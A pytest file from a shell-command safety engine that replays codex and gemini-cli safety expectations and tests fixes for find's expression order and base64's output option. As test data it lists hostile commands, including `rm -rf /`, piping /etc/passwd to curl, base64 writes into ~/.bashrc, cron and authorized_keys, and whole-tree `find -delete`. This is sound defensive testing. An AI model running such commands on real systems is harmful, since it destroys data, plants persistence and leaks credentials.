"""unseen48 (stop 48, issue 8): two more projects' command-safety expectations replayed through Engine.check.

Sources (read as data, not copied: each command, its label and where it comes from are in tests/data/unseen48/,
one case a line, with the source repository, commit and path; tests/data/unseen48/README.md says how each was read):

- openai/codex@55dfa3c, codex-rs/shell-command/src/command_safety/is_safe_command.rs (codex.jsonl, 60 cases with
  @52344a5's is_dangerous_command.rs `rm -rf /` and `rm -f /`): the commands its tests hold known safe (allow) and
  not known safe (flag: not auto-approved, judged on the merits).
- google-gemini/gemini-cli@915ffe8 command-classifier.test.ts (read-only and write -> allow, destructive -> flag)
  and @8753e98 commandAllowlist.test.ts (auto-approvable -> allow, never -> flag) (gemini_cli.jsonl, 125 cases).

Scored with harm.holds_expectation: "allow" must be allowed, "flag" not allowed. A case the engine disagrees with,
judged on its merits, carries `accepted`: the verdict the engine keeps and why.

Misses before / after (185 expectations):
- codex: 30 of its not-safe commands allowed -> 0 unexplained: 1 fixed (`find . -delete -name file.txt`, below),
  30 accepted (the 30th since the merge: fp48 reads `find . -name file.txt -ok rm {} ;` as its listing) (git
  branch -d and new branches, --output to a new file under /tmp, core.pager=cat, cargo check,
  unknown program names, BSD base64's -o of a new file in the tree, rg -z, a PATH name as rg's --hostname-bin,
  subshells and redirections of harmless commands, deletes fp47 reads as a listing of the tree). Its safe commands
  the engine flags: 0.
- gemini-cli: 34 of its destructive / never-auto-approved commands allowed, all accepted (pushes without force,
  git branch -d, tag -d, gc, prune, rebase -i, config and remote names, deletes and chmod in the working directory,
  docker run without mounts, kubectl apply, a mixed reset, downloads, `cat /etc/passwd | curl -X POST URL` which
  sends nothing, sudo ls, redirections, scripts that are not there). Its safe commands the engine flags: 0.

Fixed here:
1. find's expression is read left to right (evaluate._find_tests_after_delete): a `-name`/`-iname`/`-type` test
   after `-delete` gates nothing it deleted. `find . -delete -name file.txt` (codex) and `find src -type f -delete
   -name '*.tmp'` were read by fp47's listing as deleting only the named files and allowed, though find deletes the
   whole tree (live, below); they ask now (find_delete). `find . -name '*.pyc' -delete` stays allowed.
2. base64's output option (policies/writers.yaml): BSD/macOS base64 `-o FILE` / `--output=FILE` is judged as `tee
   FILE`: `base64 --output=/etc/cron.d/job x` was allowed; it asks (write_system_path), `-o ~/.bashrc` asks,
   `-o policies/x.yaml` is the hardline. Found judging codex's base64 cases, whose own outputs (a new file in the
   tree) stay allowed.

Checked and kept: a pager, alias, fsmonitor, diff.external, sshCommand, editor or credential helper given with `git
-c` that names a script the session wrote (`git -c core.pager=./x.sh log`) is already read as that script and
refused; a bare name (`core.pager=x.sh`) is looked up on PATH by git's shell, not in the tree, and stays allowed.

Open: nothing from these sources (no strict xfail).
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from engine import Engine
from tests.redteam.harm import (
    accepted_by_source,
    allowed_payloads,
    assert_cases_accounted,
    find_dot_where,
    flagged_near_misses,
    harm_project,
    home_intact,
    replay_cases,
    replay_data,
    said,
    wanted_verdict,
)

FILES = ("codex.jsonl", "gemini_cli.jsonl")
CASES: list[dict[str, Any]] = replay_data("unseen48", FILES)
SOURCES = {
    "openai/codex@55dfa3c",
    "openai/codex@52344a5",
    "google-gemini/gemini-cli@915ffe8",
    "google-gemini/gemini-cli@8753e98",
}


test_replayed_expectation_holds = replay_cases(
    CASES,
    lambda i, case: f"{i}-{case['source'][:8]}-{wanted_verdict(case)}-{case['command'][:40]!r}",
    find_dot_where,
)


def test_every_case_names_its_source_and_every_disagreement_its_reason() -> None:
    assert_cases_accounted(
        CASES, SOURCES, 185, lambda case: (case["source"][:12], case["command"]), ("allow", "flag", "deny")
    )


def test_the_fixed_cases_are_the_ones_counted() -> None:
    fixed = [case["command"] for case in CASES if case.get("fixed")]
    assert fixed == ["find . -delete -name file.txt"]
    by_source = accepted_by_source(CASES)
    assert by_source == {"openai/codex": (30, 0), "google-gemin": (34, 0)}  # +1 in the merge: fp48 reads -ok rm


# -- the families closed here, in our own spellings, with near misses ---------------------------------------
BASE64_OUTPUT = (
    [
        "base64 -d -o ~/.bashrc x.b64",
        "base64 --output=/etc/cron.d/job x",
        "base64 -Do ~/.profile x",
        "gbase64 -d -o ~/.zshrc x",
        "base64 -i x.b64 -o policies/x.yaml",
        "base64 --decode x.b64 --output ~/.ssh/authorized_keys",
    ],
    [
        "base64 -d x.b64",
        "base64 -w 0 data.bin",
        "base64 -o out.b64 in.txt",
        "base64 -d x.b64 > out.bin",
        "base64 --decode x.b64 -o build/out.bin",
        "base64 -i in.txt",
    ],
)

# judged in a project of our own (a find of `.` must not walk the engine's repository)
FIND_ORDER = (
    [
        "find . -delete -name file.txt",
        "find src -type f -delete -name '*.tmp'",
        "find . -maxdepth 1 -delete -iname x",
        "find . -delete -name '*.pyc' -print",
        "find . -exec rm {} \\; -name '*.pyc'",
        "find src -delete -type f",
    ],
    [
        "find . -name '*.pyc' -delete",
        "find . -type f -name '*.o' -delete",
        "find . -name '*.log' -delete -print",
        "find . -maxdepth 1 -name '*.tmp' -delete",
        "find src -name '*.pyc' -type f -delete",
        "find . -name '*.pyc' -exec rm -f {} +",
    ],
)


def test_base64_output_is_a_written_file(scorer: Engine) -> None:
    payloads, near_misses = BASE64_OUTPUT
    assert allowed_payloads(scorer, payloads) == []
    assert flagged_near_misses(scorer, near_misses) == []
    verdict = scorer.check("base64 -i x.b64 -o policies/x.yaml")
    assert verdict.decision == "deny" and verdict.hardline, said("base64 -o policies/x.yaml", verdict)


def _tree(root: Path) -> None:
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("print('app')\n")
    (root / "src" / "app.pyc").write_text("compiled\n")
    (root / "notes.md").write_text("keep me\n")


def test_find_tests_after_delete_gate_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with harm_project(tmp_path, monkeypatch) as (engine, _, root):
        _tree(root)
        payloads, near_misses = FIND_ORDER
        assert allowed_payloads(engine, payloads) == []
        assert flagged_near_misses(engine, near_misses) == []


@pytest.mark.skipif(shutil.which("find") is None, reason="needs find")
def test_a_delete_before_its_name_test_empties_the_tree_live_and_is_stopped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    payload = "find . -delete -name file.txt"
    live = tmp_path / "live"
    live.mkdir()
    _tree(live)
    subprocess.run(["bash", "-c", payload], cwd=live, capture_output=True, timeout=60, check=False)
    assert sorted(p.name for p in live.iterdir()) == [], "unguarded, find deletes the whole tree"
    with harm_project(tmp_path / "guarded", monkeypatch) as (engine, home, root):
        _tree(root)
        result = engine.call("terminal", {"command": payload})
        assert not result.ok and result.error is not None and result.error.type == "pending_approval", result.output
        assert (root / "src" / "app.py").is_file() and (root / "notes.md").read_text() == "keep me\n"
        assert home_intact(home)
        # the near miss: the tests first, then the action: only the .pyc goes
        assert engine.call("terminal", {"command": "find . -name '*.pyc' -delete"}).ok
        assert not (root / "src" / "app.pyc").exists()
        assert (root / "src" / "app.py").is_file() and (root / "notes.md").is_file()
